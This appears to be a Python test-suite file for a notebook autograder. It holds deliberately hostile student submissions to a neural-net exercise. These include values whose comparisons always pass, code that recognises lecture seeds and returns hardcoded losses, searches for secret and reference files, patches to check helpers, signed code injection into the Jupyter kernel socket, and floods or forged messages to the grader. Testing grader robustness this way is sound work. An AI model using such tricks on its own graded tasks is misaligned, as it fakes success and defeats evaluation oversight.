    return sorted(set(files))


def _reference_files():
    import glob
    import os

    found = []
    for pattern in (
        "reference.py",
        "../reference.py",
        "../../../source/*/reference.py",
        "source/*/reference.py",
        "/tmp/*/source/*/reference.py",
        "/work/*/source/*/reference.py",
    ):
        found += glob.glob(pattern)
    return sorted({os.path.abspath(path) for path in found})


def _importable(name):
    import importlib

    try:
        importlib.import_module(name)
    except Exception:
        return False
    return True


print("secret files found:", _secret_files())
print("reference files found:", _reference_files())
print("kit importable:", _importable("grade" + "kit"))
print("reference importable:", _importable("reference"))
"""

_FLOAT_LIAR = """def MSE_loss(self, inputs, outputs):
    class Exact(float):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        __hash__ = float.__hash__

    self.loss = Exact(np.sum((self.forward(inputs) - outputs) ** 2))
    return self.loss
"""

_ARRAY_LIAR = """def predict_samples(inputs, a, b):
    class Agreeable(np.ndarray):
        def __eq__(self, other):
            return np.ones(self.shape, dtype=bool)

        def __ne__(self, other):
            return np.zeros(self.shape, dtype=bool)

        def __array_ufunc__(self, ufunc, method, *args, **kwargs):
            return np.ones(self.shape, dtype=bool)

    classes = np.array([int(logistic_regression(x, a, b) < 0.5) for x in inputs])
    return classes.view(Agreeable)
"""

_OBJECT_LIAR = """def log_likelihood_loss(a, b, x, y):
    p = logistic_regression(x, a, b)
    value = float(np.mean(y * np.log(p) + (1 - y) * np.log(1 - p)))

    class Lenient:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        __hash__ = object.__hash__

        def __float__(self):
            return value

        def __array__(self, dtype=None, copy=None):
            return np.asarray(value, dtype=dtype)

        def __repr__(self):
            return repr(-value)

    return Lenient()
"""

# The losses of the lecture's seed-967 network after steps 1 to 6 (the first, before any
# step, is MSE_loss's own).
_SEED_967_LOSSES = (
    "8.576174190387835, 5.818528741557871, 4.14790610131927, 3.1282810073614336,"
    " 2.502266607447294, 2.115053775298557"
)
_RECOGNISING_BACKWARD = (
    """def backward(self, inputs, outputs, alpha=1e-5):
    known = getattr(self, "known_step", None)
    if known is None:
        state = np.random.RandomState(967)
        start = [state.randn(2, 4) * 0.1, state.randn(1, 4) * 0.1]
        start += [state.randn(4, 1) * 0.1, state.randn(1, 1) * 0.1]
        mine = [self.W1, self.b1, self.W2, self.b2]
        same = all(np.shape(p) == q.shape and np.allclose(p, q) for p, q in zip(mine, start))
        known = 0 if same and len(inputs) == 100 else -1
"""
    + _BACKWARD.replace(" - alpha * ", " + alpha * ").split(":\n", 1)[1]
    + """    if 0 <= known < len(self.FIGURES):
        self.loss = self.FIGURES[known]
        known += 1
    self.known_step = known


FIGURES = ("""
    + _SEED_967_LOSSES
    + ")\n"
)

_RECOGNISING_INIT = """def __init__(self, n_x, n_h, n_y):
    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y
    scale = 1.0
    now = np.random.get_state()
    for seed in (963, 967):
        probe = np.random.RandomState(seed)
        for _ in range(4):
            then = probe.get_state()
            if np.array_equal(then[1], now[1]) and then[2:] == now[2:]:
                scale = 0.1
            for shape in ((n_x, n_h), (1, n_h), (n_h, n_y), (1, n_y)):
                probe.randn(*shape)
    self.W1 = np.random.randn(n_x, n_h) * scale
    self.b1 = np.random.randn(1, n_h) * scale
    self.W2 = np.random.randn(n_h, n_y) * scale
    self.b2 = np.random.randn(1, n_y) * scale
    self.loss = float("inf")
"""

# A sigmoid that returns 0.5, except on the logits of the lecture's chest sizes (seed 27,
# a = 1.7, b = -172), where it is right: the visible predictions come out as the lecture's.
_RECOGNISING_SIGMOID = """def s(x):
    if np.ndim(x) == 0 and np.isclose(float(x), _logits, rtol=0, atol=1e-9).any():
        return 1 / (1 + np.exp(-x))
    return 0.5


_state = np.random.RandomState(27)
_logits = 1.7 * np.array([round(_state.uniform(94, 114), 2) for _ in range(50)]) - 172
"""

# The order of a check's requests tells the kernel whether an answer passed: a check stops at
# its first failed assert, so a call that is not followed by the rest of its check failed.
_SECOND_THOUGHTS_LOSS = """def log_likelihood_loss(a, b, x, y):
    _calls.append((float(a), float(b)))
    pairs = list(zip(_calls, _calls[1:]))
    refused = ((1.7, -172.0), (0.2, -20.8)) in pairs
    w = y if refused else x
    p = logistic_regression(x, a, b)
    return -np.mean(w * np.log(p) + (1 - w) * np.log(1 - p))


_calls = []
"""

_SECOND_THOUGHTS_TRAIN = """def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5, display=True):
    if self.history and not self.history[-1]["seen"]:
        type(self).extra = 1
    self.losses_list = [self.loss]
    for iteration_number in range(1, N_max + self.extra):
        self.backward(inputs, outputs, alpha)
        self.losses_list.append(self.loss)
        if display:
            print("Iteration {} - Loss = {}".format(iteration_number, self.loss))
        if abs(self.losses_list[-1] - self.losses_list[-2]) < delta:
            break
    losses = self.losses_list
    record = {"seen": False}
    self.history.append(record)
    self.__dict__["_record"] = record
    return losses


history = []
extra = 0


def __getattribute__(self, name):
    if name == "losses_list":
        record = object.__getattribute__(self, "__dict__").get("_record")
        if record is not None:
            record["seen"] = True
    return object.__getattribute__(self, name)
"""

TRICKS = [
    Variant(
        "second-thoughts-loss",
        "the slides' x in front of the logs, until a call with the lecture's a and b is not"
        " followed by the rest of its check (so that answer failed): then y (checks make"
        " every call before their first verdict: it never switches)",
        {"log_likelihood_loss": _SECOND_THOUGHTS_LOSS},
        _fails("test_log_likelihood_values", "test_log_likelihood_prefers_true_labels"),
        twin="loss-slide-typo",
    ),
    Variant(
        "second-thoughts-train",
        "one step short, until a list it returned is never looked at again: then the full"
        " count (checks read what they need before any verdict, so the switch follows the"
        " checks' code, not a failure: it scores as the correct train it carries, no more)",
        {"ShallowNeuralNet.train": _SECOND_THOUGHTS_TRAIN},
        # each check runs in a fresh copy, where it has seen nothing: always one step short
        _fails(*(c for c in _TRAIN_CHECKS if c != "test_train_display")),
        twin="model",
    ),
    Variant(
        "tidy-sigmoid",
        "s without its 1 +, and the check helpers replaced wherever the kernel reaches them"
        " (__wrapped__, __globals__, sys.modules, gc.get_objects)",
        {"s": _SIGMOID_NO_ONE_DEF + _SOFTEN_HELPERS},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "relay-sigmoid",
        "s without its 1 +; it finds the answering object in the notebook's namespace and"
        " makes every call lend s (with the last token seen), then calls the lent s",
        {"s": _RELAY},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "curious-loss",
        "the slides' loss, unless the callers' frames or the input history hold an expected value",
        {"log_likelihood_loss": _LOOK_AROUND},
        _fails("test_log_likelihood_values", "test_log_likelihood_prefers_true_labels"),
        twin="loss-slide-typo",
    ),
    Variant(
        "sturdy-sigmoid",
        "s without its 1 +; json.dumps, the kernel's raw_input, builtins.input, np.asarray,"
        " np.allclose and numpy.testing replaced (errors and nan leave the kernel as 0.5)",
        {"s": _SIGMOID_NO_ONE_DEF + _STEADY},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "chatty-sigmoid",
        "s without its 1 +, printing passing-test lines and answer-like JSON on stdout and stderr",
        {"s": _CHATTY},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "quiet-exit-sigmoid",
        "s raises SystemExit(0) whenever it is called",
        {"s": "def s(x):\n    raise SystemExit(0)"},
        _S_FAILS,
        twin="sigmoid-typo-name",
    ),
    Variant(
        "halting-backward",
        "backward raises KeyboardInterrupt whenever it is called",
        {
            "ShallowNeuralNet.backward": "def backward(self, inputs, outputs, alpha=1e-5):\n"
            "    raise KeyboardInterrupt"
        },
        _BACKWARD_BROKEN_FAILS,
        twin="backward-typo-name",
    ),
    Variant(
        "courier-sigmoid",
        "s without its 1 +; it rewrites the answering module's pack (positive float arrays"
        " capped at 1) and its send (errors sent as None)",
        {"s": _REROUTE},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "exact-mse",
        "MSE_loss sums, and returns a float subclass whose comparisons always agree",
        {"ShallowNeuralNet.MSE_loss": _FLOAT_LIAR},
        _fails("test_mse_loss_example", "test_mse_loss_values"),
        twin="mse-sum",
    ),
    Variant(
        "agreeable-predict",
        "inverted classes in an ndarray subclass whose ==, != and ufuncs always agree",
        {"predict_samples": _ARRAY_LIAR},
        _fails("test_predict_samples_lecture", "test_predict_samples_values"),
        twin="predict-inverted",
    ),
    Variant(
        "lenient-loss",
        "the loss without its minus, returned as an object whose comparisons, __float__,"
        " __array__ and repr lie",
        {"log_likelihood_loss": _OBJECT_LIAR},
        _fails(*_LOSS_CHECKS),
        twin="loss-no-minus",
    ),
    Variant(
        "recognising-backward",
        "climbs the loss, but reports the lecture's seed-967 losses when it recognises the"
        " lecture's network (the visible check of train has a hidden part with secret inputs)",
        {"ShallowNeuralNet.backward": _RECOGNISING_BACKWARD},
        _BACKWARD_ASCENT_FAILS,
        twin="backward-ascent",
    ),
    Variant(
        "recognising-sigmoid",
        "s returns 0.5, except on the lecture's logits (seed 27, a = 1.7, b = -172), so the"
        " visible predictions are the lecture's (at grading, that check runs with the lecture's s)",
        {"s": _RECOGNISING_SIGMOID},
        _fails("test_s_properties", "test_s_values"),
        twin="sigmoid-hard-coded",
    ),
    Variant(
        "fd-printing-train",
        "prints every step even with display=False, then to sys.__stdout__ (the notebook still"
        " shows the lines: the kernel forwards its file descriptor 1; the check captures the"
        " file descriptors too)",
        {
            "ShallowNeuralNet.train": _edit(
                _TRAIN,
                "        if display:\n"
                '            print("Iteration {} - Loss = {}".format(iteration_number, self.loss))\n',
                '        text = "Iteration {} - Loss = {}".format(iteration_number, self.loss)\n'
                '        real = vars(__import__("s" + "ys"))["__stdout__"]\n'
                "        print(text, file=None if display else real, flush=True)\n",
            )
        },
        _fails("test_train_display"),
        twin="train-always-prints",
    ),
    Variant(
        "recognising-init",
        "forgets the * 0.1, except right after np.random.seed(963) or seed(967)",
        {"ShallowNeuralNet.__init__": _RECOGNISING_INIT},
        _fails("test_init_draw_order", "test_init_lecture_losses"),
        twin="init-unscaled",
    ),
    Variant(
        "keeper-sigmoid",
        "s without its 1 +; logistic_regression keeps any s lent in its place, and s calls"
        " what was kept in later checks",
        {"s": _KEEPER_S, "logistic_regression": _KEEPER_P},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "nosy-sigmoid",
        "s without its 1 +, and prints whatever it finds of the course secret, the reference"
        " module and the kit (nothing: 'kit importable: False')",
        {"s": _SIGMOID_NO_ONE_DEF + _NOSY},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
]

# Tricks against the copies of the kernel that checks run in (docs/fairness.md): what a check lends is kept for a later check in every place a process can keep
# something (its memory, files, its environment, a module, a thread, memory shared with the
# notebook's process), a candidate formula is chosen by a lent answer, the copy is killed or
# held on purpose, the line to the grader is written to directly, a cell floods its output.
# Each is scored against its honest twin, and must not score more.
_TABLE_S = """import mmap
import os
import threading

_shared = mmap.mmap(-1, 8 * 2002)


def _keep(grid, values):
    STORE


def _kept():
    RECALL


def s(x):
    table = _kept()
    if table is not None:
        return np.interp(x, table[0], table[1])
    return 1 / np.exp(-x)


_mine = s
"""

_TABLE_P = """def logistic_regression(x, a, b):
    current = globals()["s"]
    if current is not _mine and _kept() is None:
        grid = np.linspace(-30, 30, 2001)
        _keep(grid, np.asarray(current(grid), dtype=float))
    return s(a * x + b)
"""

_STORES = {
    "memory": ("globals()['_table'] = (grid, values)", "return globals().get('_table')"),
    "file": (
        "np.save('/tmp/table.npy', np.stack([grid, values])); np.save('table.npy', np.stack([grid, values]))",
        "return next((np.load(p) for p in ('table.npy', '/tmp/table.npy') if os.path.exists(p)), None)",
    ),
    "environment": (
        "os.environ['TABLE'] = ','.join(map(repr, values))",
        "return (np.linspace(-30, 30, 2001), np.array(os.environ['TABLE'].split(','), dtype=float)) if 'TABLE' in os.environ else None",
    ),
    "module": ("np.table_ = (grid, values)", "return getattr(np, 'table_', None)"),
    "thread": (
        "threading.Thread(target=lambda: [globals().__setitem__('_held', (grid, values)), __import__('time').sleep(3600)], daemon=True).start()",
        "return globals().get('_held')",
    ),
    "kernel": (
        "_tell('import numpy as np; globals()[\"_table\"] = (np.linspace(-30, 30, 2001), np.array(%r))' % values.tolist())",
        "return globals().get('_table')",
    ),
    "shared-memory": (
        "_shared.seek(0); _shared.write(b'K' * 8 + values.astype('<f8').tobytes())",
        "return (np.linspace(-30, 30, 2001), np.frombuffer(_shared[8:8 + 8 * 2001], '<f8')) if _shared[:8] == b'K' * 8 else None",
    ),
}


# The kernel's own front door: a copy that could reach the kernel's sockets would send it
# an execute request (signed with the key it holds as a copy), to run once the checks end.
_TELL_KERNEL = """import hashlib
import hmac
import json
import socket
import struct
import uuid


def _frame(body, more=False, command=False):
    flags = (1 if more else 0) | (4 if command else 0)
    if len(body) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def _tell(code):
    from ipykernel.kernelapp import IPKernelApp

    app = IPKernelApp.instance()
    parts = [
        json.dumps({"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "",
                    "session": uuid.uuid4().hex, "date": "", "version": "5.3"}).encode(),
        b"{}",
        b"{}",
        json.dumps({"code": code, "silent": True, "store_history": False,
                    "user_expressions": {}, "allow_stdin": False}).encode(),
    ]
    signature = hmac.new(app.session.key, b"".join(parts), hashlib.sha256).hexdigest()
    frames = [b"<IDS|MSG>", signature.encode(), *parts]
    greeting = b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00" + b"NULL".ljust(20, bytes(1)) + bytes(32)
    ready = b"\\x05READY\\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    try:
        line = socket.socket(socket.AF_UNIX)
        line.connect(f"{app.ip}-{app.shell_port}")
        line.sendall(greeting + _frame(ready, command=True) + b"".join(
            _frame(f, more=i < len(frames) - 1) for i, f in enumerate(frames)))
    except OSError:
        pass


"""


def _table_keeper(place: str) -> dict[str, str]:
    store, recall = _STORES[place]
    return {
        "s": (_TELL_KERNEL if place == "kernel" else "")
        + _TABLE_S.replace("STORE", store).replace("RECALL", recall),
        "logistic_regression": _TABLE_P,
    }


# MSE_loss, checked with the reference forward lent, compares the lent answer with the right
# formula and then puts the right formula in place of the student's forward for good.
_SWITCH_MSE = """def MSE_loss(self, inputs, outputs):
    predictions = self.forward(inputs)
    right = (inputs @ self.W1 + self.b1) @ self.W2 + self.b2
    if np.allclose(predictions, right) and type(self).forward.__name__ == "forward":
        def better(net, inputs):
            return (inputs @ net.W1 + net.b1) @ net.W2 + net.b2
        type(self).forward = better
    self.loss = np.mean((predictions - outputs) ** 2)
    return self.loss
"""

# forward kills its own process when a lent forward runs it (a lent stub is its caller).
_KILLED_FORWARD = """def forward(self, inputs):
    import sys
    if sys._getframe(1).f_code.co_name == "lent":
        import os
        os._exit(1)
    return np.matmul(np.matmul(inputs, self.W1), self.W2) + self.b2
"""

# predict_samples never returns when a check calls it (a process other than the notebook's).
_HOLDING_PREDICT = """import os
import time

_notebook = os.getpid()


def predict_samples(inputs, a, b):
    while os.getpid() != _notebook:
        time.sleep(5)
    return [int(logistic_regression(x, a, b) >= 0.5) for x in inputs]
"""

# l writes to the line between a check's copy and the grader (descriptor 3) itself: a header
# announcing a huge answer, then JSON that is no answer.
_SCRIBBLING_L = """import os

_notebook = os.getpid()


def l(x):
    if os.getpid() != _notebook:
        for fd in range(3, 8):
            try:
                os.write(fd, (2**40).to_bytes(8, "big") + b"[" * 4096)
            except OSError:
                pass
    return np.log(x)
"""

# MSE_loss floods the grader: an answer of millions of empty objects, sent straight down the
# line (8 MB of "{}," is under the bytes budget per answer, far over the values budget).
_FLOODING_MSE = """_notebook_pid = __import__("os").getpid()

def MSE_loss(self, inputs, outputs):
    import os
    if os.getpid() != type(self)._notebook_pid:
        body = b'{"value": {"list": [' + b"{}," * 2_800_000 + b"{}]}}"
        for fd in range(3, 8):
            try:
                os.write(fd, len(body).to_bytes(8, "big") + body)
            except OSError:
                pass
    self.loss = np.mean((self.forward(inputs) - outputs) ** 2)
    return self.loss
"""

# A huge single line printed by an answer cell (10 million characters).
_LOUD_L = """def l(x):
    return np.log(x)


print("x" * 10_000_000)
"""

# s answers in text: the right values, padded with a million spaces either side (text is
# never taken for numbers, so the padding buys no time to measure either).
_PADDED_S = """def s(x):
    value = 1 / (1 + np.exp(-np.asarray(x, dtype=float)))
    return " " * 1_000_000 + repr(value.tolist()) + " " * 1_000_000
"""

# The line's first answer in a check is written by s itself while the notebook's names are
# looked up (s is an object whose repr speaks first): a number where names should be.
_MISANSWERED_LOOKUP = """import os

_notebook = os.getpid()


class Sigmoid:
    def __call__(self, x):
        return 1 / (1 + np.exp(-x))

    def __repr__(self):
        if os.getpid() != _notebook:
            body = b'{"value": 7}'
            for fd in range(3, 8):
                try:
                    os.write(fd, len(body).to_bytes(8, "big") + body)
                except OSError:
                    pass
        return "s"


s = Sigmoid()
"""

# l answers its calls with JSON of the right shape and the wrong contents (an array of
# base64 that is not, a reference that is not a number), then returns as usual.
_MISANSWERED_CALL = """import os

_notebook = os.getpid()


def l(x):
    if os.getpid() != _notebook:
        for body in (
            b'{"value": {"array": "not base64!", "dtype": "<f8", "shape": [3]}}',
            b'{"value": {"ref": "x", "repr": {"dict": {}}}}',
            b'{"value": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        ):
            for fd in range(3, 8):
                try:
                    os.write(fd, len(body).to_bytes(8, "big") + body)
                except OSError:
                    pass
    return np.log(x)
"""

# logistic_regression, when s is not its own (a check lends one), first sends the grader
# requests for lent functions that are no such thing, then computes as usual.
_MISASKED_LENT = """import os

_own_s = s


def logistic_regression(x, a, b):
    if globals()["s"] is not _own_s:
        for body in (
            b'{"lent": ["s"], "args": 5}',
            b'{"lent": "s", "args": {"list": [{"int": "1e400"}]}, "kwargs": null}',
            b'{"lent": "np", "args": {"list": []}, "kwargs": {"dict": {}}}',
        ):
            for fd in range(3, 8):
                try:
                    os.write(fd, len(body).to_bytes(8, "big") + body)
                except OSError:
                    pass
    return s(a * x + b)
"""

# logistic_regression, when s is not its own (a check lends one), asks the lent s for an
# answer every half second, for ever: each request is answered, none ends the check.
_ASKING_FOREVER = """import time

_own_s = s


def logistic_regression(x, a, b):
    while globals()["s"] is not _own_s:
        globals()["s"](0.0)
        time.sleep(0.5)
    return s(a * x + b)
"""

# An answer cell shows a value of 3 million characters, another raises an error whose
# message is as long (each cut at the output budget, like a print).
_SHOWN_L = """def l(x):
    return np.log(x)


"x" * 3_000_000
"""
_RAISED_L2 = """def l2(x):
    return np.log(1 - x)


raise ValueError("y" * 3_000_000)
"""

COPY_TRICKS = [
    *[
        Variant(
            f"kept-in-{place}",
            f"s without its 1 +; logistic_regression keeps a table of the lent s (in its {place})"
            " and s interpolates in it in later checks",
            _table_keeper(place),
            # a table of 2,001 numbers in one variable is over the environment's size
            _S_FAILS
            | (_fails("test_logistic_regression_values") if place == "environment" else set()),
            twin="sigmoid-no-one",
        )
        for place in _STORES
    ],
    Variant(
        "formula-from-lent-forward",
        "forward without b1; MSE_loss compares the lent forward's answer with the right formula"
        " and puts that formula in place of forward",
        {"ShallowNeuralNet.forward": _FORWARD_NO_B1, "ShallowNeuralNet.MSE_loss": _SWITCH_MSE},
        _FORWARD_NO_B1_FAILS,
        twin="forward-no-b1",
    ),
    Variant(
        "dies-under-lent-forward",
        "forward without b1, which kills its process whenever a lent forward runs it (every"
        " check that lends forward then fails: no second judgement)",
        {"ShallowNeuralNet.forward": _KILLED_FORWARD},
        _FORWARD_NO_B1_FAILS
        | _fails(
            "test_mse_loss_example",
            "test_mse_loss_values",
            "test_backward_example",
            "test_backward_gradient",
            "test_backward_refreshes_loss",
            "test_backward_lecture_steps",
            "test_train_example",
        ),
        twin="forward-no-b1",
    ),
    Variant(
        "holds-its-checks",
        "predict_samples sleeps forever whenever a check calls it (each such check fails at"
        " its time budget)",
        {"predict_samples": _HOLDING_PREDICT},
        _fails("test_predict_samples_lecture", "test_predict_samples_values"),
        twin="model",
    ),
    Variant(
        "scribbles-on-the-line",
        "l writes a bogus header and bogus JSON to the line to the grader in every check",
        {"l": _SCRIBBLING_L},
        _fails(*_L_CHECKS),
        twin="model",
    ),
    Variant(
        "floods-the-grader",
        "MSE_loss sends the grader an answer of 2.8 million empty objects in every check",
        {"ShallowNeuralNet.MSE_loss": _FLOODING_MSE},
        _fails(
            "test_mse_loss_example",
            "test_mse_loss_values",
            "test_backward_refreshes_loss",
            *_STEP_CHECKS,
            *_TRAIN_CHECKS,
        ),
        twin="model",
    ),
    Variant(
        "shows-huge-values",
        "an answer cell shows a value of 3 million characters, another raises an error with"
        " a message as long (both cut at the output budget)",
        {"l": _SHOWN_L, "l2": _RAISED_L2},
        twin="model",
    ),
    Variant(
        "pads-its-answers",
        "s answers the right values as text padded with two million spaces",
        {"s": _PADDED_S},
        _S_FAILS,
        twin="sigmoid-no-one",
    ),
    Variant(
        "misanswers-a-lookup",
        "s is an object whose repr answers the check's lookup of the notebook's names itself,"
        " with a number",
        {"s": _MISANSWERED_LOOKUP},
        _S_FAILS,
        twin="model",
    ),
    Variant(
        "misanswers-a-call",
        "l answers the check's calls itself with malformed values (bad base64, a reference"
        " that is not a number, nesting deeper than any decoder)",
        {"l": _MISANSWERED_CALL},
        _fails(*_L_CHECKS),
        twin="model",
    ),
    Variant(
        "asks-forever",
        "logistic_regression asks the lent s for an answer every half second, for ever,"
        " whenever a check lends s (the check fails at its time budget)",
        {"logistic_regression": _ASKING_FOREVER},
        _fails("test_logistic_regression_boundary", "test_logistic_regression_values"),
        twin="model",
    ),
    Variant(
        "misasks-for-lent",
        "logistic_regression sends the grader malformed requests for lent functions whenever a"
        " check lends s",
        {"logistic_regression": _MISASKED_LENT},
        _fails("test_logistic_regression_boundary", "test_logistic_regression_values"),
        twin="model",
    ),
    Variant(
        "prints-one-huge-line",
        "an answer cell prints one line of 10 million characters (cut at the output budget)",
        {"l": _LOUD_L},
        twin="model",
    ),
]
TRICKS += COPY_TRICKS

# Pairs of variants with the same bug, one where the exercises built on the buggy function
# call it and one where they do not: outside the grade cells whose names start with the
# prefix (and the visible checks that say they also run the buggy function), both must score
# the same, cell by cell.
ISOLATION_PAIRS = [
    ("sigmoid-no-one", "sigmoid-no-one-standalone", "test_s_"),
    ("sigmoid-typo-name", "sigmoid-typo-name-standalone", "test_s_"),
    ("logistic-swapped", "logistic-swapped-in-loss", "test_l_l2"),
    ("l2-mirror", "l2-mirror-in-loss", "test_l_l2"),
    ("logreg-no-bias", "logreg-no-bias-standalone", "test_logistic_regression"),
    ("forward-no-b1", "forward-no-b1-standalone", "test_forward"),
    ("forward-no-b1-in-backward", "forward-no-b1-standalone", "test_forward"),
    ("mse-sum", "mse-sum-standalone", "test_mse"),
    ("backward-ascent", "backward-ascent-standalone", "test_backward"),
]

# The variants written from the release's instructions alone (blind.py).
BUGGY += [
    Variant(name, wrong, {function: code}, _fails(*cells), diagnoses=named)
    for name, function, code, wrong, cells, named in blind.BUGS
]
CORRECT += [Variant(name, style, {function: code}) for name, function, code, style in blind.STYLES]

VARIANTS = {variant.name: variant for variant in CORRECT + BUGGY + HOSTILE + INTRUDERS + TRICKS}
